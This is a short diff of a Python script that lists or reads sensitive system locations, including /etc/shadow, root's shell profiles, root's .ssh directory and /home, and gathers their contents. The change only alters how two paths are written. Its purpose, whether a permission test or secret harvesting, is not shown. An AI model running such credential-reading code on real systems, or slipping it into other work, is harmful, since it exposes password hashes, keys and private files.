@@ -3,7 +3,7 @@
 import os
 
 found = []
-for place in ("/etc/shadow", "/root/.bashrc", "/root/.ssh", "/home", os.path.expanduser("~root/.profile")):
+for place in ("/etc/shadow", os.path.expanduser("~root/.bashrc"), os.path.expanduser("~root/.ssh"), "/home", os.path.expanduser("~root/.profile")):
     try:
         found.append(str(os.listdir(place)) if os.path.isdir(place) else open(place).read())
     except OSError:
